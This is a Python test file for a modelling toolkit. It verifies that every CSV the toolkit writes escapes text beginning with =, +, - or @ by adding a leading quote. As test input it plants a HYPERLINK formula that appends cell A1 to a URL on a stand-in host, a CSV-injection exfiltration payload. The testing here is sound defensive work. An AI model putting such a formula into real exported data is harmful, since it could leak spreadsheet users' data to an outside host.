"""Text that a spreadsheet would run as a formula (``=``, ``+``, ``-``, ``@`` first) is written
to every CSV file with a single quote in front, as the workbook writes it as text; numbers,
negative ones included, and text that is a plain number stay as they are."""

from __future__ import annotations

import csv
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from model.cli.main import main
from model.results.formats.csvtext import FORMULA_START, csv_safe, csv_text

ROOT = Path(__file__).resolve().parents[2]
TEMPLATE = ROOT / "assumptions" / "templates" / "growth-company.yaml"
PLANTED = '=HYPERLINK("http://example.invalid/?"&A1,"open")'
NOTE = "-2+3 the estimate's own sum"
CLAIM = "@SUM(A1:A9) of the claims"


@pytest.mark.parametrize(
    ("value", "written"),
    [("=1+1", "'=1+1"), ("+1 555 0100", "'+1 555 0100"), ("-x", "'-x"), ("@a", "'@a"),
     ("\t=1", "'\t=1"), ("-2+3", "'-2+3"), ("-0.05", "-0.05"), ("-1,234.5", "-1,234.5"),
     ("-12%", "-12%"), ("+3e-2", "+3e-2"), ("plain", "plain"), ("", ""), (-1.5, -1.5),
     (None, None)],
)  # fmt: skip
def test_a_cell_is_quoted_only_when_it_is_text_like_a_formula(value, written) -> None:
    assert csv_safe(value) == written


def test_numbers_stay_numbers_and_text_is_quoted_with_the_index() -> None:
    frame = pd.DataFrame(
        {"label": ["=cmd", "ok"], "value": [-1.5, np.nan], "n": [-3, 4]},
        index=pd.Index(["@first", "-0.5"], name="name"),
    )
    rows = list(csv.reader(csv_text(frame, index=True).splitlines()))
    assert rows == [["name", "label", "value", "n"], ["'@first", "'=cmd", "-1.5", "-3"],
                    ["-0.5", "ok", "", "4"]]  # fmt: skip
    assert csv_text(frame).splitlines()[1] == "'=cmd,-1.5,-3"


def _planted(tmp_path: Path) -> Path:
    """The growth template with a formula in a scenario's label, an estimate and a claim."""
    text = TEMPLATE.read_text(encoding="utf-8")
    for old, new in (
        ("Bull: a second generation extends the early growth", PLANTED.replace('"', '\\"')),
        ("This year's sales of the one product line (illustrative)", NOTE),
        ("Sales double by 2028", CLAIM),
    ):
        assert f'"{old}"' in text
        text = text.replace(f'"{old}"', f'"{new}"')
    path = tmp_path / "planted.yaml"
    path.write_text(text, encoding="utf-8")
    return path


def _cells(folder: Path) -> list[str]:
    found = [p for p in folder.rglob("*.csv")] if folder.is_dir() else [folder]
    assert found, folder
    return [c for p in found for row in csv.reader(p.open(encoding="utf-8")) for c in row]


def _check(cells: list[str]) -> None:
    risky = [c for c in cells if c.startswith(FORMULA_START) and csv_safe(c) != c]
    assert not risky, risky[:5]


def test_every_csv_the_toolkit_writes_quotes_formula_text(tmp_path, capsys) -> None:
    path = _planted(tmp_path)
    fast = ["--paths", "200", "--seed", "1"]
    report = tmp_path / "report"
    assert main(["report", str(path), "--out", str(report), *fast, "--no-charts", "-q"]) == 0
    cells = _cells(report)
    _check(cells)
    assert "'" + PLANTED in cells and "'" + CLAIM in cells
    ledger = tmp_path / "ledger.csv"
    assert main(["sources", str(path), "--scenario", "bull", "--csv", str(ledger)]) == 0
    _check(_cells(ledger))
    assert "'" + NOTE in _cells(ledger)
    assert main(["outputs", str(path), "--csv", str(tmp_path / "outputs.csv")]) == 0
    _check(_cells(tmp_path / "outputs.csv"))
    watch = tmp_path / "watch"
    assert main(["watch", str(path), *fast, "--out", str(watch)]) == 0
    _check(_cells(watch))
    capsys.readouterr()
